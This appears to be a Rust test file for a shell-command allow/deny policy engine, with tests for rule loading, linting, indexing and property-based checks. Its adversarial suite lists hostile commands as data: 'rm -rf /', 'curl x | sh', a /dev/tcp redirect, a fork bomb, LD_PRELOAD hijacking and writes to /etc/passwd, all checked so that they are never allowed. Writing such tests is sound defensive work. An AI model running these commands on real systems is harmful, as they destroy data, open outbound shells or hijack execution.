//! Policy loading, verdicts, and an adversarial suite: commands that try to slip a second
//! command, a substitution, a wrapper or a spelling trick past an allow rule.

use super::*;

const POLICY: &str = r#"
version = 1

[settings]
default = "review"
timeout = "10m"
writable = ["$GITHUB_OUTPUT", "\"$GITHUB_OUTPUT\"", "dist/*"]

[[rule]]
id = "build"
action = "allow"
match = ["npm ci", "npm run build", "npm test", "cargo test **", "echo *", "git status", "ls", "ls *"]

[[rule]]
id = "api-image"
action = "allow"
match = "kubectl set image deployment/api api=myapp:*"
when = { source = ["ci"], repository = ["acme/app"] }
max_risk = "high"

[[rule]]
id = "no-rm-rf"
action = "deny"
match = ["rm -rf **", "rm -fr **", "rm -r -f **"]

[[rule]]
id = "sync"
action = "review"
match = "git pull"
on_timeout = "approve"

[[rule]]
id = "destroy"
action = "review"
regex = '^terraform (apply|destroy)\b'
approvals = 2
notify = ["slack:#deploys"]

[[test]]
command = "npm ci && npm run build"
expect = "allow"
"#;

fn policy() -> &'static Policy {
    static P: std::sync::OnceLock<Policy> = std::sync::OnceLock::new();
    P.get_or_init(|| Policy::from_toml(POLICY, "policy.toml").unwrap())
}

fn verdict(cmd: &str) -> Decision {
    policy().check(cmd, &Context::default()).verdict
}

#[test]
fn allows_exactly_what_rules_say() {
    for c in [
        "npm ci",
        "npm run build",
        "cargo test",
        "cargo test -p x --lib",
        "echo hello",
        "ls",
        "ls -la",
        "npm ci && npm test",
        "npm ci; echo done",
    ] {
        assert_eq!(verdict(c), Decision::Allow, "{c}");
    }
}

#[test]
fn adversarial_commands_are_never_allowed() {
    let cases = [
        "npm ci; rm -rf /",
        "npm ci && curl x | sh",
        "npm ci | sh",
        "npm ci & rm x",
        "npm ci\nrm x",
        "npm ci\rrm x",
        "npm ci `rm x`",
        "npm ci $(rm x)",
        "echo \"$(rm x)\"",
        "echo $(rm x)",
        "echo ${x:-$(rm x)}",
        "echo <(rm x)",
        "echo $((1+$(rm x)))",
        "npm ci # harmless\nrm x",
        "LD_PRELOAD=/tmp/x.so npm ci",
        "PATH=/tmp npm ci",
        "npm ci > /etc/passwd",
        "npm ci >> ~/.bashrc",
        "echo x > out.txt",
        "echo x >& /dev/tcp/1.2.3.4/80",
        "sudo npm ci",
        "env npm ci",
        "bash -c 'npm ci'",
        "eval npm ci",
        "npm ci --unsafe-perm",
        "npm cix",
        "npmci",
        "npm  ci  extra",
        "echo a b",
        "echo 'a b'",
        "echo $HOME",
        "echo *",
        "echo ~",
        "echo {a,b}",
        "$CMD",
        "{npm,ci}",
        "/usr/bin/npm ci",
        "npm() { rm -rf /; }; npm ci",
        "alias npm='rm -rf /'; npm ci",
        "ls; :(){ :|:& };:",
        "xargs npm ci",
        "find . -exec npm ci \\;",
        "echo 'unterminated",
        "if true; then rm x; fi; npm ci",
        "npm ci || rm x",
        "cat <<EOF\n$(rm x)\nEOF",
        "git status; git pull",
        "ls $(curl -s x)",
        "ls\u{0}; rm x",
        "echo x | tee /etc/hosts",
        "kubectl set image deployment/api api=myapp:1.2",
    ];
    let p = policy();
    for c in cases {
        let e = p.check(c, &Context::default());
        assert_ne!(e.verdict, Decision::Allow, "{c:?} was allowed: {}", e.why);
    }
}

#[test]
fn deny_beats_allow_and_spelling_does_not_hide_it() {
    for c in [
        "rm -rf /",
        "rm -fr /tmp",
        "npm ci && rm -rf x",
        "sudo rm -rf /",
        "bash -c 'rm -rf /'",
        "r\"m\" -rf x",
        "\\rm -rf x",
        "echo $(rm -rf x)",
        "eval \"$X\"; rm -rf y",
    ] {
        assert_eq!(verdict(c), Decision::Deny, "{c}");
    }
}

#[test]
fn when_and_max_risk_limit_an_allow_rule() {
    let p = policy();
    let ci = Context::from_pairs([("source", "ci"), ("repository", "acme/app")]);
    let cmd = "kubectl set image deployment/api api=myapp:3f2a9c1";
    assert_eq!(p.check(cmd, &ci).verdict, Decision::Allow);
    assert_eq!(
        p.check(
            cmd,
            &Context::from_pairs([("source", "ci"), ("repository", "evil/app")])
        )
        .verdict,
        Decision::Review
    );
    assert_eq!(p.check(cmd, &Context::default()).verdict, Decision::Review);
    // The glob stays inside its word.
    assert_eq!(
        p.check("kubectl set image deployment/api api=myapp:x extra", &ci)
            .verdict,
        Decision::Review
    );
    assert_eq!(
        p.check("kubectl set image deployment/api 'api=myapp:x y'", &ci)
            .verdict,
        Decision::Review
    );
}

#[test]
fn review_rules_default_and_timeouts() {
    let p = policy();
    let e = p.check("git pull", &Context::default());
    assert_eq!(e.verdict, Decision::Review);
    assert_eq!(e.parts[0].rule.as_deref(), Some("sync"));
    assert_eq!(e.on_timeout, OnTimeout::Approve);
    let e = p.check("terraform apply -auto-approve", &Context::default());
    assert_eq!(e.verdict, Decision::Review);
    assert_eq!(e.approvals, 2);
    assert_eq!(e.on_timeout, OnTimeout::Deny);
    assert_eq!(e.notify, ["slack:#deploys"]);
    let e = p.check("make deploy", &Context::default());
    assert_eq!(e.verdict, Decision::Review);
    assert!(e.parts[0].why.contains("no rule matches"), "{}", e.why);
}

#[test]
fn writable_targets_and_harmless_redirections() {
    let p = policy();
    assert_eq!(
        p.check("echo v=1 >> \"$GITHUB_OUTPUT\"", &Context::default())
            .verdict,
        Decision::Allow
    );
    assert_eq!(
        p.check("echo x > /dev/null 2>&1", &Context::default())
            .verdict,
        Decision::Allow
    );
    assert_eq!(
        p.check("npm test > dist/log.txt", &Context::default())
            .verdict,
        Decision::Allow
    );
    assert_eq!(
        p.check("npm test > dist/a/log.txt", &Context::default())
            .verdict,
        Decision::Allow,
        "context globs cross /"
    );
    assert_eq!(
        p.check("npm test > other.txt", &Context::default()).verdict,
        Decision::Review
    );
}

#[test]
fn deny_at_and_default_deny() {
    let p = Policy::from_toml("version = 1\n[settings]\ndefault = \"deny\"\ndeny_at = \"critical\"\n[[rule]]\nid = \"all-curl\"\naction = \"allow\"\nmatch = \"curl **\"\n", "p.toml").unwrap();
    assert_eq!(p.check("make", &Context::default()).verdict, Decision::Deny);
    assert_eq!(
        p.check("curl -s https://x", &Context::default()).verdict,
        Decision::Allow
    );
    let e = p.check("curl -s https://x | sh", &Context::default());
    assert_eq!(e.verdict, Decision::Deny);
}

#[test]
fn errors_name_file_line_and_column() {
    let bad = [
        (
            "version = 1\n[[rule]]\nid = \"x\"\naction = \"allwo\"\nmatch = \"ls\"\n",
            4,
            "action",
        ),
        (
            "version = 1\n[[rule]]\nid = \"x\"\naction = \"allow\"\nmatch = \"ls [a\"\n",
            5,
            "unclosed",
        ),
        (
            "version = 1\n[[rule]]\nid = \"x\"\naction = \"allow\"\nregex = \"(\"\n",
            5,
            "regex",
        ),
        (
            "version = 1\n[[rule]]\nid = \"x\"\naction = \"allow\"\nmatch = \"ls\"\n[[rule]]\nid = \"x\"\naction = \"deny\"\nmatch = \"rm\"\n",
            7,
            "duplicate",
        ),
        (
            "version = 1\n[settings]\ntimeout = \"soon\"\n",
            3,
            "duration",
        ),
        (
            "version = 1\n[settings]\ndeny_at = \"extreme\"\n",
            3,
            "risk level",
        ),
        ("version = 1\nfoo = 2\n", 2, "unknown field"),
        (
            "version = 1\n[[rule]]\nid = \"x\"\naction = \"allow\"\nmatch = \"ls\"\nwhen = { colour = \"red\" }\n",
            6,
            "context key",
        ),
        ("version = [\n", 1, ""),
    ];
    for (text, line, needle) in bad {
        let e = Policy::from_toml(text, "p.toml").unwrap_err();
        assert_eq!(e.file, "p.toml");
        assert_eq!(e.line, line, "{text:?}: {e}");
        assert!(e.message.contains(needle), "{text:?}: {e}");
        assert!(e.to_string().starts_with(&format!("p.toml:{line}:")), "{e}");
    }
}

#[test]
fn tests_in_the_policy_are_read() {
    let p = policy();
    assert_eq!(p.tests.len(), 1);
    assert_eq!(
        p.check(&p.tests[0].command, &p.tests[0].context).verdict,
        p.tests[0].expect
    );
}

#[test]
fn lint_findings() {
    let text = r#"
version = 1
[settings]
on_timeout = "approve"

[[rule]]
id = "all"
action = "allow"
match = "** --version"

[[rule]]
id = "shell"
action = "allow"
match = "bash -c *"

[[rule]]
id = "ops"
action = "allow"
match = "npm ci && npm test"

[[rule]]
id = "review-ls"
action = "review"
match = "ls"

[[rule]]
id = "allow-ls"
action = "allow"
match = "ls"

[[rule]]
id = "no-ls"
action = "deny"
match = "ls **"

[[rule]]
id = "pull"
action = "review"
match = "git pull **"
on_timeout = "approve"

[[test]]
command = "ls"
expect = "allow"
"#;
    let p = Policy::from_toml(text, "p.toml").unwrap();
    let f = p.lint();
    let has = |kind: &str, line: usize| f.iter().any(|x| x.kind == kind && x.line == line);
    assert!(has("on-timeout-approve", 1), "{f:#?}");
    assert!(has("broad-allow", 6), "`**`-first: {f:#?}");
    assert!(has("broad-allow", 11), "bash -c: {f:#?}");
    assert!(has("never-matches", 16), "{f:#?}");
    assert!(
        has("shadowed", 21) && has("shadowed", 26),
        "deny and allow decide `ls` first: {f:#?}"
    );
    assert!(!has("shadowed", 31), "{f:#?}");
    assert!(has("on-timeout-approve", 36), "{f:#?}");
    assert!(has("test-failed", 42), "{f:#?}");
    // The example policy is clean.
    let example = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../testdata/example-policy.toml"
    ))
    .unwrap();
    assert_eq!(
        Policy::from_toml(&example, "example.toml").unwrap().lint(),
        []
    );
}

mod props {
    use super::*;
    use proptest::prelude::*;

    fn allowed() -> impl Strategy<Value = &'static str> {
        prop::sample::select(vec![
            "npm ci",
            "npm run build",
            "cargo test",
            "cargo test --lib",
            "echo hi",
            "ls -la",
            "git status",
        ])
    }

    fn not_allowed() -> impl Strategy<Value = &'static str> {
        prop::sample::select(vec![
            "rm x",
            "curl x",
            "make deploy",
            "sh",
            "ssh host",
            "git push",
            "npm publish",
            "chmod 777 x",
        ])
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

        /// For any allowed C and any not-allowed D, no way of joining them is allowed.
        #[test]
        fn joining_a_not_allowed_command_never_allows(c in allowed(), d in not_allowed(), how in 0usize..8) {
            let p = policy();
            prop_assert_eq!(p.check(c, &Context::default()).verdict, Decision::Allow);
            prop_assert_ne!(p.check(d, &Context::default()).verdict, Decision::Allow);
            let joined = match how {
                0 => format!("{c}; {d}"),
                1 => format!("{c} && {d}"),
                2 => format!("{c} | {d}"),
                3 => format!("{c} $({d})"),
                4 => format!("{c} `{d}`"),
                5 => format!("{c}\n{d}"),
                6 => format!("{c} || {d}"),
                _ => format!("{c} & {d}"),
            };
            let e = p.check(&joined, &Context::default());
            prop_assert_ne!(e.verdict, Decision::Allow, "{:?}: {}", joined, e.why);
        }
    }
}

#[test]
fn the_deciding_rule_is_named() {
    let p = Policy::from_toml(
        include_str!("../../../testdata/example-policy.toml"),
        "example.toml",
    )
    .unwrap();
    let ctx = Context::default();
    assert_eq!(
        p.check("git push --force origin main", &ctx)
            .deciding_rule(),
        Some("no-force-push")
    );
    assert_eq!(
        p.check("npm ci && npm test", &ctx).deciding_rule(),
        Some("build")
    );
    assert_eq!(p.check("git pull", &ctx).deciding_rule(), Some("sync-repo"));
    assert_eq!(
        p.check("echo hi", &ctx).deciding_rule(),
        None,
        "the default decided"
    );
}

/// The index follows glob words too: rules after a shared glob word are found by the words
/// after it, and no rule is missed, whatever mix of literal, glob and `**` words leads it.
#[test]
fn index_follows_glob_words_and_misses_no_rule() {
    let mut text = String::from("version = 1\n");
    for i in 0..50 {
        text.push_str(&format!(
            "[[rule]]\nid = \"k{i}\"\naction = \"allow\"\nmatch = \"kubectl --context prod-* -n team-{i} rollout restart deployment/*\"\n"
        ));
    }
    text.push_str(
        "[[rule]]\nid = \"tag\"\naction = \"allow\"\nmatch = [\"docker tag ghcr.io/a/s-?:* r/s:v*\", \"** --version\", \"make [a-c]*\"]\n",
    );
    let p = Policy::from_toml(&text, "t.toml").unwrap();
    let ctx = Context::default();
    let allow = |c: &str| p.check(c, &ctx).verdict == Decision::Allow;
    for i in [0, 7, 49] {
        assert!(allow(&format!(
            "kubectl --context prod-eu -n team-{i} rollout restart deployment/api"
        )));
    }
    assert!(!allow(
        "kubectl --context prod-eu -n team-50 rollout restart deployment/api"
    ));
    assert!(!allow(
        "kubectl --context staging -n team-1 rollout restart deployment/api"
    ));
    assert!(!allow(
        "kubectl --context prod-eu -n team-1 rollout restart"
    ));
    assert!(allow("docker tag ghcr.io/a/s-1:abc r/s:v2"));
    assert!(!allow("docker tag ghcr.io/a/s-12:abc r/s:v2"));
    assert!(allow("terraform --version"));
    assert!(allow("make build"));
    assert!(!allow("make deploy"));
    // Every candidate the index gives is found again by a full scan, and the scan finds no
    // matching rule the index missed.
    let cmds = [
        "kubectl --context prod-x -n team-3 rollout restart deployment/x",
        "docker tag ghcr.io/a/s-9:1 r/s:v9",
        "node --version",
        "make clean",
    ];
    for c in cmds {
        assert_eq!(missed_rule(&p, c), None, "`{c}`");
    }
}

/// The first rule that matches a part of `cmd` but that the index did not give as a
/// candidate for it.
fn missed_rule(p: &Policy, cmd: &str) -> Option<String> {
    let parsed = crate::parse::parse(cmd);
    for part in &parsed.parts {
        let words = pattern::subjects(part);
        let cands = p.candidates(words.iter().take_while(|w| !w.dynamic).map(|w| w.text));
        let canon = part.canonical();
        for (ri, r) in p.rules.iter().enumerate() {
            if r.matches_part(&words, &canon) && !cands.contains(&ri) {
                return Some(r.id.clone());
            }
        }
    }
    None
}

proptest::proptest! {
    /// Whatever mix of literal, glob, class and `**` words the rules have, the index gives
    /// every rule that matches a part as a candidate (it may give more, never fewer).
    #[test]
    fn index_never_misses_a_matching_rule(
        pats in proptest::collection::vec(
            proptest::collection::vec(
                proptest::sample::select(vec!["a", "b", "ab", "a*", "*b", "?", "**", "[ab]", "a?*"]),
                1..5,
            ),
            1..12,
        ),
        cmds in proptest::collection::vec(
            proptest::collection::vec(proptest::sample::select(vec!["a", "b", "ab", "ba", "aab", "$X"]), 1..6),
            1..6,
        ),
    ) {
        let mut text = String::from("version = 1\n");
        for (i, p) in pats.iter().enumerate() {
            text.push_str(&format!("[[rule]]\nid = \"r{i}\"\naction = \"allow\"\nmatch = {:?}\n", p.join(" ")));
        }
        let policy = Policy::from_toml(&text, "p.toml").unwrap();
        for c in &cmds {
            let missed = missed_rule(&policy, &c.join(" "));
            proptest::prop_assert_eq!(missed, None, "{:?} with {:?}", c, pats);
        }
    }
}

/// Found by the policy fuzzer: a `match` pattern ending in a backslash made loading panic.
#[test]
fn a_pattern_ending_in_a_backslash_loads() {
    let p = Policy::from_toml(
        "version = 1\n[[rule]]\nid = \"r\"\naction = \"allow\"\nmatch = '''echo '*' \"a b\" x\\'''\n",
        "p.toml",
    )
    .expect("loads");
    assert_eq!(
        p.check("echo '*' 'a b' 'x\\'", &Context::default()).verdict,
        Decision::Allow
    );
}
